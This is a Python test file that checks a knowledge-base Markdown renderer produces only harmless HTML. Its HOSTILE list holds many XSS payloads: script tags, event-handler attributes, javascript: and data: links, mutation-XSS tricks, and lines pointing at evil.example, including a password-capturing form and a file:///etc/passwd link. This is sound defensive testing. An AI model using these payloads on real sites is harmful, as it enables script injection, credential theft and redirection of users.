"""What authors write becomes HTML that does nothing but show it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk.knowledge.files import read_folder
from desk.knowledge.html import article_html
from desk.settings import PROJECT

TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    '[x](https://e.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://e.example\'"onmouseover=alert(1))',
    "<javascript:alert(1)>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script> 'z'",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"onload=alert(1)\nx\n```",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>x</script>|[x](javascript:1)|",
    "# <script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "\u202ejavascript:alert(1)",
)  # fmt: skip


class Seen(HTMLParser):
    """Refuses whatever an article may not hold."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.links: list[dict[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        assert tag in TAGS, tag
        allowed = {"a": {"href", "title", "rel"}, "ol": {"start"}, "div": {"lang"}}.get(tag, set())
        assert given.keys() <= allowed, attrs
        if tag == "a":
            self.links.append(given)
            assert given.get("rel") == "noopener noreferrer"
            # A link without a scheme leads to the desk itself.
            scheme = (given.get("href") or "").partition(":")[0].lower()
            assert scheme not in {"javascript", "data", "vbscript", "file"}

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text):
    Seen(article_html(text, "en"))
    Seen(article_html(f"Before\n\n{text}\n\n- {text}\n\n> {text}", "es"))


@given(st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "[", "](", ")", "<", ">", "`", "a"])))
def test_nothing_hostile_comes_through_in_any_order(parts):
    Seen(article_html("".join(parts), "en"))


def test_an_article_looks_as_it_was_written():
    html = article_html(
        "# Title\n\nOne **two** *three* ~~four~~ <b>five</b> & [six](https://ace.example/?a=1&b=2)\n\n"
        "3. seven\n4. eight\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "es",
    )
    assert html.startswith('<div lang="es"><h2>Title</h2>')
    assert "<strong>two</strong> <em>three</em> <s>four</s> &lt;b&gt;five&lt;/b&gt; &amp;" in html
    link = '<a href="https://ace.example/?a=1&amp;b=2" rel="noopener noreferrer">six</a>'
    assert link in html
    assert '<ol start="3">' in html
    assert "<td>2</td>" in html


def test_no_article_of_the_checkout_loses_a_link_or_shows_markup():
    for article in read_folder(PROJECT / "data" / "kb"):
        html = article_html(article.body, article.language)
        assert len(Seen(html).links) == article.body.count("]("), article.meta.slug
        assert "&lt;" not in html, article.meta.slug
